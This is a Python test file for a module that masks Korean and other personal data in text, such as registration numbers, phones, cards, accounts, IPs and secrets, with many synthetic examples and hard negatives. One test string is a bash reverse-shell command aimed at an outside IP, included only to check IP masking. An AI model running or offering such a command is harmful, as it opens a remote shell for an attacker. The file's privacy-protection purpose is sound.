"""Personal data is found next to Hangul; dates, orders and versions are not."""

import pyarrow as pa
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from preprocessing.documents import Counts, lines_of
from preprocessing.pii import masking
from preprocessing.pii.identity import has_checksum
from preprocessing.pii.masking import KINDS, PATTERNS, PLACEHOLDERS, Span, anonymize, find, mask, mask_column
from preprocessing.pii.money import has_luhn
from preprocessing.text.matching import available_engine
from tests.preprocessing.measure_personal_data import list_errors, read_cases, scores

ENGINES = ["re2", *(["hyperscan"] if available_engine() == "hyperscan" else [])]
CASES = read_cases()
FOUND = [
    ("rrn", "주민번호900101-1234567입니다", "주민번호<|rrn|>입니다"),
    ("rrn", "151005-3000001", "<|rrn|>"),  # issued 2015: gender digit 3
    ("rrn", "번호 850228 - 2****** 확인", "번호 <|rrn|> 확인"),
    ("phone", "전화는010-1234-5678이고", "전화는<|phone|>이고"),
    ("phone", "01000009876로", "<|phone|>로"),
    ("phone", "문의.010 0000 4321", "문의.<|phone|>"),
    ("phone", "02-123-4567 또는 +82-10-0000-2468", "<|phone|> 또는 <|phone|>"),
    ("phone", "관리실(031)000-1234", "관리실<|phone|>"),
    ("phone", "Mob: +919448145261", "Mob: <|phone|>"),
    ("phone", "Mobile: (+91) 9448213934", "Mobile: <|phone|>"),
    ("phone", "제 번호는 공일공 일이삼사 오육칠팔이에요", "제 번호는 <|phone|>이에요"),
    ("email", "email:-kim@a.co.kr, 메일 홍길동@한글도메인.kr", "email:-<|email|>, 메일 <|email|>"),
    (
        "account",
        "Please wire it to Shinhan Bank 140-009-123456.",
        "Please wire it to Shinhan Bank <|account|>.",
    ),
    ("card", "카드4111 1111 1111 1111이고", "카드<|card|>이고"),
    ("card", "결제한 카드 4012888888881881로", "결제한 카드 <|card|>로"),
    ("account", "계좌번호: 가람은행 110-000-123456 예금주", "계좌번호: 가람은행 <|account|> 예금주"),
    ("account", "통장 123456-00-123456으로", "통장 <|account|>으로"),
    ("email", "메일주소hong@naver.com입니다", "메일주소<|email|>입니다"),
    ("email", "<nora.feldspar@example.co.kr>,", "<<|email|>>,"),
    ("ip", "서버 211.33.90.25로 접속", "서버 <|ip|>로 접속"),
    ("ip", "접속 IP: 14.5.7.20, 시각", "접속 IP: <|ip|>, 시각"),  # small numbers, but called an address
    ("ip", "아이피 주소 27.1.2.3에서", "아이피 주소 <|ip|>에서"),
    ("passport", "여권번호\nM12345678", "여권번호\n<|passport|>"),  # named in the line above
    ("driver", "면허11-90-123456-78번", "면허<|driver|>번"),
    ("secret", "https://deploy:hunter2x@git.example.com/a", "https://deploy:<|secret|>@git.example.com/a"),
    ("phone", "０１０－１２３４－５６７８로", "<|phone|>로"),
    ("phone", "mobile010-2345-6789로", "mobile<|phone|>로"),  # Latin letters before
    ("phone", "8210-2345-6789", "<|phone|>"),
    ("phone", "001-82-10-2345-6789", "<|phone|>"),
    ("card", "카드 4111 1111 11111111", "카드 <|card|>"),
    ("ip", "IP175.223.10.11에서", "IP<|ip|>에서"),
    ("phone", 'Order();\nsetPhone("010-9999-8888");', 'Order();\nsetPhone("<|phone|>");'),
    ("email", "Dami Sen <dami@example.codes>", "Dami Sen <<|email|>>"),
    ("ip", "bash -i >& /dev/tcp/101.106.9.22/4444 0>&1", "bash -i >& /dev/tcp/<|ip|>/4444 0>&1"),
    ("rrn", "근로자 731220-2554955 원천징수", "근로자 <|rrn|> 원천징수"),
    ("passport", "PassportM91827364 issued 2020", "Passport<|passport|> issued 2020"),
    ("card", "카드 도용 신고: 4539 1488 0343 6467", "카드 도용 신고: <|card|>"),
    # the numbers of a version, but used as an address
    ("ip", "서버 7.44.20.39에 접속", "서버 <|ip|>에 접속"),
]
HARD_NEGATIVES = [
    "은행           3369626100      4004806100       635180000",
    "2024-03-15에 만나요", "주문번호 20240315123456", "계좌를 2024-03-15에 만들었다", "입금일 2024-03-15-1200", "991399-1234567",
    "900231-1234567", "9001011234569", "4111 1111 1111 1112", "a/63819969-62153800-c982-11e9-8342-746ae62027a3.JPG", "송장 1234-5678-9012-3456", "파이썬 3.12.1.4 버전", "버전 10.20.30.40",
    "v120.64.30.99", "127.0.0.1", "192.168.0.10", "10.1.2.3", "192.0.2.0/24", "256.300.1.1", "1.2.3.4.5", "4.2.1.3절", "ZIP 4.2.1.3", "1588-1588", "0.01012345678",
    "3.141592653589793", "2000000", "1,000,000원", "123-45-67890", "978-89-12345-67-8", "@decorator", "git@github.com:a/b.git", "a@b",
    '__version__ = "7.2.20.39"', "Chrome/139.0.0.0", "rust 1.96.0.0", "SKU-A010-2345-6789", "version 121.78.90.12", "4 Jan 2004::",
    "4242 4242 4242 4242 테스트 카드", "국민은행 123-45-67890 (사업자번호)", "카드 주문번호 4539-1488-0343-6467", "900101-1234567원",
    "공 010-12-345", "은행에 3번 갔다", "2019-2020 시즌 1010-2020",
]  # fmt: skip


def mask_texts(texts, kinds=KINDS, engine=None):
    counts = Counts()
    ids = pa.array([f"d{row}" for row in range(len(texts))])
    column, found = mask_column(pa.array(texts, pa.large_string()), ids, list(kinds), counts, engine)
    return column.to_pylist(), found, counts


@pytest.mark.parametrize(("kind", "text", "expected"), FOUND)
def test_found_next_to_hangul(kind, text, expected):
    after, counts = mask(text)
    assert after == expected
    assert set(counts) == {kind}


@pytest.mark.parametrize("text", HARD_NEGATIVES)
def test_hard_negatives_stay(text):
    assert mask(text) == (text, {})


def test_the_labeled_cases_are_valid():
    assert len(CASES) >= 400
    assert sum(not case.spans for case in CASES) >= 0.4 * len(CASES)
    assert sum(case.held_out for case in CASES) >= 0.15 * sum(case.round == 1 for case in CASES)
    for case in CASES:
        assert list(case.spans) == sorted(case.spans)
        assert all(0 <= span.start < span.end <= len(case.text) for span in case.spans)


@pytest.mark.parametrize("held_out", [False, True])
def test_precision_and_recall_on_the_labeled_cases(held_out):
    cases = [case for case in CASES if case.held_out == held_out]
    low = {kind: s for kind, s in scores(cases).items() if s.precision < 0.98 or s.recall < 0.97}
    assert not low, "\n".join(list_errors(cases))


def test_cases_that_peers_get_wrong():
    # datatrove's PIIFormatter starts addresses at a word border, which Hangul hides; it has no patterns for numbers
    assert mask("메일주소hong@naver.com입니다")[0] == "메일주소<|email|>입니다"
    # dps takes dates for accounts and orders for telephones
    assert mask("2024-03-15")[0] == "2024-03-15"
    assert mask("20240315123456")[0] == "20240315123456"


def with_checksum(digits):
    return next(f"{digits}{last}" for last in range(10) if has_checksum(f"{digits}{last}"))


def test_rrn_without_a_separator_needs_its_checksum_or_its_name():
    # 900101-123456: 9*2+0*3+0*4+1*5+0*6+1*7+1*8+2*9+3*2+4*3+5*4+6*5 = 124, 11 - 124 % 11 = 8
    assert with_checksum("900101123456") == "9001011234568"
    assert mask("9001011234568")[0] == "<|rrn|>"
    assert mask("9001011234569")[0] == "9001011234569"
    assert mask("주민번호 9001011234569")[0] == "주민번호 <|rrn|>"


def test_luhn():
    assert has_luhn([int(d) for d in "79927398713"])  # the example of ISO/IEC 7812 in textbooks
    assert not any(has_luhn([int(d) for d in f"7992739871{last}"]) for last in (0, 1, 2, 4, 5, 6, 7, 8, 9))


DIGITS = st.text("0123456789", min_size=4, max_size=4)
SHOP_WORDS = ["예약", "주문", "접수", "배송", "택배", "고객", "사업자"]
NAMES_OF_THINGS = [
    "주문번호",
    "접수번호는",
    "수험번호: ",
    "운송장번호(한진) ",
    "자재코드 ",
    "시리얼 ",
    "order_no=",
    '"trackingNumber": "',
]


@settings(deadline=None)
@given(
    st.sampled_from(["010", "02", "031", "070", "0507"]),
    DIGITS,
    DIGITS,
    st.sampled_from("-.·"),
    st.sampled_from(SHOP_WORDS),
)
def test_shop_words_do_not_hide_a_telephone_but_the_name_of_a_number_does(code, middle, last, sign, word):
    number = sign.join((code, middle, last))
    assert mask(f"{word} {number}로") == (f"{word} <|phone|>로", {"phone": 1})
    assert mask(f"{word}: {number}") == (f"{word}: <|phone|>", {"phone": 1})
    for name in NAMES_OF_THINGS:
        assert "phone" not in mask(name + number)[1]


@settings(deadline=None)
@given(
    st.sampled_from(["4", "51", "2221", "9410", "35", "62"]), st.text("0123456789", min_size=15, max_size=15)
)
def test_the_name_of_another_number_hides_a_number_that_looks_like_a_card(start, digits):
    digits = (start + digits)[:15]
    number = next(f"{digits}{last}" for last in range(10) if has_luhn([int(d) for d in f"{digits}{last}"]))
    grouped = " ".join(number[i : i + 4] for i in range(0, 16, 4))
    for written in (number, grouped):
        assert mask(f"카드번호 {written}") == ("카드번호 <|card|>", {"card": 1})
        for name in (*NAMES_OF_THINGS, "상품권 ", "기프트카드 ", "제품키 ", "카드 승인번호 "):
            assert "card" not in mask(name + written)[1]
    assert "card" not in mask(f"값 {number}")[1]  # one in ten numbers has the check digit


@settings(deadline=None)
@given(st.integers(0, 5), st.sampled_from("*xX●○#"))
def test_a_registration_number_may_hide_its_last_digits(shown, sign):
    text = f"900101-1{'234567'[:shown]}{sign * (6 - shown)}"
    assert mask(f"주민번호 {text}") == ("주민번호 <|rrn|>", {"rrn": 1})


@settings(deadline=None)
@given(st.ip_addresses(v=4, network="121.128.0.0/10"), st.integers(16, 31))
def test_a_prefix_behind_an_address_masks_a_host_and_keeps_a_network(address, length):
    text = f"inet {address}/{length}"
    host = int(address) % 2 ** (32 - length) != 0
    assert mask(text)[0] == (f"inet <|ip|>/{length}" if host else text)
    assert mask("allow 121.128.7.0/32")[0] == "allow <|ip|>/32"


def test_numbers_that_look_like_a_version_need_a_word_for_address():
    assert mask("DLL 4.101.22.3 교체")[1] == {}
    assert mask("방화벽에 4.101.22.3 추가")[1] == {"ip": 1}
    assert mask("서버 4.101.22.3 → 4.101.22.9")[1] == {"ip": 2}


def test_published_card_numbers_stay_in_tests_only():
    assert mask("테스트 카드 4242 4242 4242 4242")[1] == {}
    assert mask("내 카드 4242 4242 4242 4242")[1] == {"card": 1}


def test_spans_are_characters_of_the_text():
    text = "첫 줄 𠮷\n\n주민번호는 900101-1234567이고 메일은\nhong@naver.com 이다\n"
    assert [(text[s.start : s.end], s.kind) for s in find(text)] == [
        ("900101-1234567", "rrn"),
        ("hong@naver.com", "email"),
    ]
    text = "ftp://gaon:q1w@host.example/ 010-1234-5678"  # the shortest password
    assert [(text[s.start : s.end], s.kind) for s in find(text)] == [
        ("q1w", "secret"),
        ("010-1234-5678", "phone"),
    ]
    assert find("a@b.kr", ["phone"]) == []
    assert find("a@b.kr") == [Span(0, 6, "email")]


@pytest.mark.parametrize("engine", ENGINES)
def test_a_column_is_masked_like_its_texts(engine):
    texts = [case.text for case in CASES]
    texts += ["\n".join(texts[start::7]) for start in range(7)] + ["", "가나다", "\n\n"]
    after, found, counts = mask_texts(texts, engine=engine)
    alone = [mask(text) for text in texts]
    assert after == [text for text, _ in alone]
    assert found.tolist() == [[n[kind] for kind in KINDS] for _, n in alone]
    assert found.dtype == "int32"
    assert counts.masked == sum((n for _, n in alone), start=type(counts.masked)())


PARTS = [case.text for case in CASES] + [text for _, text, _ in FOUND] + HARD_NEGATIVES
WRITTEN = [
    {},
    {digit: digit + 0xFEE0 for digit in range(ord("0"), ord("9") + 1)},
    {ord("-"): "–"},
    {ord("-"): "－", ord("("): "（", ord(")"): "）"},
    {ord(" "): "\u00a0"},
]
GLUE = ["", " ", "\n", "은", ",", "-", " 계좌 ", "여권", "\n면허", "/", *PLACEHOLDERS.values()]


@settings(max_examples=150, deadline=None)
@given(
    st.lists(st.tuples(st.sampled_from(PARTS), st.sampled_from(GLUE), st.sampled_from(WRITTEN)), max_size=5)
)
def test_masking_twice_is_masking_once_and_columns_agree_with_texts(parts):
    text = "".join(part.translate(written) + glue for part, glue, written in parts)
    once, _ = mask(text)
    assert mask(once) == (once, {})
    assert mask_texts([text])[0] == [once]  # a hint that misses a row or a line would show here


@settings(max_examples=200, deadline=None)
@given(st.lists(st.text("a\n가", max_size=6), min_size=1, max_size=6))
def test_lines_of_a_column(texts):
    lines, first = lines_of(pa.array(["x", *texts], pa.large_string()).slice(1))
    split = [text.split("\n") for text in texts]
    assert [line.removesuffix("\n") for line in lines.to_pylist()] == [
        line for some in split for line in some
    ]
    assert first.tolist() == [sum(map(len, split[:row])) for row in range(len(texts))]


def test_only_the_kinds_asked_for():
    assert mask("a@b.kr 010-1234-5678", ["phone"])[0] == "a@b.kr <|phone|>"
    after, found, counts = mask_texts(["a@b.kr 010-1234-5678", "a@b.kr"], ["phone"])
    assert after == ["a@b.kr <|phone|>", "a@b.kr"]
    assert found.sum(axis=0).tolist() == [int(kind == "phone") for kind in KINDS]
    assert mask_texts(["a@b.kr"], [])[0] == ["a@b.kr"]


def test_every_kind_has_a_pattern_and_a_placeholder():
    assert {pattern.kind for pattern in PATTERNS} == set(KINDS) == set(PLACEHOLDERS)


def test_examples_are_few_and_do_not_leak():
    texts = [
        f"{'앞 문장이다. ' * 20}전화 010-1234-567{n}, 계좌 국민은행 123456-04-12345{n}\n다음 줄 hong@naver.com"
        for n in range(6)
    ]
    _, _, counts = mask_texts(texts)
    assert {kind: len(kept) for kind, kept in counts.examples.items()} == {
        "phone": 3,
        "account": 3,
        "email": 3,
    }
    first = counts.examples["phone"][0]
    assert first["id"] == "d0"
    assert first["before"].endswith("전화 •••-••••-••••, 계좌 국민은행 ••••••-••-••••••")
    assert first["after"].endswith("전화 <|phone|>, 계좌 국민은행 <|account|>")
    assert len(first["before"]) < 120


def test_anonymized_texts_contain_nothing_to_mask():
    for text in PARTS:
        hidden = anonymize(text)
        assert len(hidden) == len(text)
        assert find(hidden) == []


@pytest.mark.parametrize(
    "address",
    [
        "https://www.example.com/news/sk-telecom-model-export-controls-explained/",
        "https://en.example.com/2026/06/29/sk-hynix-hbm4-12-layer-sued-over-Memory-price-fixing",
        "https://blog.example.com/pypi-malicious-packages-steal-credentials-from-developers-2026",
        "https://example.com/xoxo-gossip-from-the-last-episode",
    ],
)
def test_words_of_addresses_are_no_keys(address):
    assert find(f"원문: <{address}>") == []


def test_keys_that_are_grouped_by_hyphens_are_masked():
    for key in ("sk-ant-api03-Q9x_k2-Zt7vB4nM1pLs8wHd", "sk-proj-a8f5f167f44f4964e6c998dee827110c"):
        assert mask(f"키: {key}0Wq3")[0] == "키: <|secret|>"


def test_personal_data_in_a_text_that_spans_lines():
    key = "-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkq\nhong@naver.com\n-----END PRIVATE KEY-----"
    text = f"설정\n{key}\n연락 010-1234-5678"
    assert mask(text)[0] == "설정\n<|secret|>\n연락 <|phone|>"
    assert mask_texts([text])[0] == ["설정\n<|secret|>\n연락 <|phone|>"]
    assert masking.find(text)[0] == Span(3, 3 + len(key), "secret")
